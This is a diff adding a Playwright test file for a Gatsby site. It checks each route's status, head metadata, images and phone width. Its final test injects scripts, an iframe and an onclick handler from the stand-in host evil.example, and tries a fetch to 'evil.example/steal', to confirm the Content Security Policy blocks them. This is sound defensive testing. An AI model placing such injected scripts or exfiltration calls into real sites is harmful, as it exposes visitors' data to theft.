@@ -1,0 +1,114 @@
+import type { Page } from "@playwright/test";
+import { expect, test } from "./faultless-test";
+import { hydrated, PHONE_PX, SMALLEST_PX, touch, WINDOW_HEIGHT_PX } from "./open-page";
+import { collectFaults, followRequests } from "./page-faults";
+import { NOT_FOUND, ROUTES, type Route } from "./routes";
+import { SITE_ADDRESS } from "./site-words";
+
+/** One walk through every address. Its parts run at the same time; a part keeps its page, so that what pages share is loaded once. */
+const WALK = {
+  services: ROUTES.filter(({ path }) => path.startsWith("/services/")),
+  solutions: ROUTES.filter(({ path }) => path.startsWith("/solutions/")),
+  articles: ROUTES.filter(({ path }) => path.startsWith("/blog/")),
+  "other pages": [...ROUTES.filter(({ path }) => !/^\/(services|solutions|blog)\//.test(path)), NOT_FOUND],
+};
+
+test.describe("every address", () => {
+  // Gatsby asks for the data of an unknown address before it shows the 404 page.
+  test.use({ expectedFaults: /status of 404|^404: .*no-such-page/ });
+
+  for (const [name, routes] of Object.entries(WALK))
+    test(`the ${name} load without an error, say what they are, show every picture and fit the smallest phone`, async ({ page }) => {
+      const faults: string[] = [];
+      for (const route of routes) faults.push(...(await faultsOf(page, route)).map((fault) => `${route.path} ${fault}`));
+      expect(faults).toEqual([]);
+    });
+});
+
+async function faultsOf(page: Page, route: Route): Promise<string[]> {
+  const faults = collectFaults(page);
+  const requestsFinished = followRequests(page);
+  await page.setViewportSize({ width: PHONE_PX, height: WINDOW_HEIGHT_PX });
+  const response = await page.goto(route.path, { waitUntil: "domcontentloaded" });
+  await touch(page);
+  await hydrated(page);
+  const isFound = route !== NOT_FOUND;
+  if (response?.status() !== (isFound ? 200 : 404)) faults.push(`answers ${response?.status()}`);
+  faults.push(...(await headFaults(page, route, isFound)), ...(await pictureFaults(page)));
+  await requestsFinished();
+  await page.setViewportSize({ width: SMALLEST_PX, height: WINDOW_HEIGHT_PX });
+  const width = await page.evaluate(() => document.documentElement.scrollWidth);
+  if (width > SMALLEST_PX) faults.push(`is ${width} px wide on a phone of ${SMALLEST_PX} px`);
+  page.removeAllListeners();
+  return faults.filter((fault) => isFound || !/status of 404|^404: .*no-such-page/.test(fault));
+}
+
+/** The head after hydration; tests/built-site reads what the server sends. */
+async function headFaults(page: Page, { path, seo }: Route, isFound: boolean): Promise<string[]> {
+  const head = await page.evaluate(() => {
+    const all = (selector: string, attribute: string) =>
+      [...document.head.querySelectorAll(selector)].map((element) => element.getAttribute(attribute));
+    const heading = document.querySelector("h1");
+    return {
+      title: document.title,
+      description: all('meta[name="description"]', "content"),
+      robots: all('meta[name="robots"]', "content"),
+      canonical: all('link[rel="canonical"]', "href"),
+      hasHeading: document.querySelectorAll("h1").length === 1 && heading?.checkVisibility() && heading.textContent !== "",
+    };
+  });
+  const expected = {
+    title: seo.title,
+    description: [seo.description],
+    robots: isFound ? [] : ["noindex"],
+    canonical: isFound ? [SITE_ADDRESS + path] : [],
+    hasHeading: true,
+  };
+  return Object.entries(expected).flatMap(([name, value]) => {
+    const found = JSON.stringify(head[name as keyof typeof head]);
+    return found === JSON.stringify(value) ? [] : [`${name} is ${found}, not ${JSON.stringify(value)}`];
+  });
+}
+
+/** Loads every picture that is drawn, also those that a visitor would have to scroll to. */
+const pictureFaults = (page: Page): Promise<string[]> =>
+  page.evaluate(async () => {
+    const drawn = [...document.images].filter((image) => image.getClientRects().length > 0);
+    const broken = drawn.map(async (image) => {
+      image.loading = "eager";
+      await image.decode().catch(() => undefined);
+      return image.naturalWidth > 0 ? [] : [`does not show ${image.currentSrc || image.alt}`];
+    });
+    return (await Promise.all(broken)).flat();
+  });
+
+for (const path of ["/", NOT_FOUND.path])
+  test.describe(`on ${path}`, () => {
+    test.use({ expectedFaults: /^policy|status of 404|^404: .*no-such-page|evil\.example|Content Security/ });
+
+    test("no script of an attacker runs, and nothing a visitor types can be sent elsewhere", async ({ page }) => {
+      const foreign: string[] = [];
+      await page.route("https://evil.example/**", (route) => {
+        foreign.push(route.request().url());
+        return route.fulfill({ body: "" });
+      });
+      await page.goto(path);
+      const outcome = await page.evaluate(async () => {
+        const add = (name: string, attributes: object) => document.body.append(Object.assign(document.createElement(name), attributes));
+        add("script", { textContent: "document.documentElement.dataset.inline = 'ran'" });
+        add("script", { src: "https://evil.example/a.js" });
+        add("img", { src: "https://evil.example/a.png" });
+        add("iframe", { src: "https://evil.example/frame" });
+        document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
+        document.querySelector("b:last-child")?.dispatchEvent(new MouseEvent("click"));
+        const sent = await fetch("https://evil.example/steal").then(
+          () => "sent",
+          () => "blocked",
+        );
+        const { inline, handler } = document.documentElement.dataset;
+        return { inline, handler, sent };
+      });
+      expect(outcome).toEqual({ inline: undefined, handler: undefined, sent: "blocked" });
+      expect(foreign).toEqual([]);
+    });
+  });
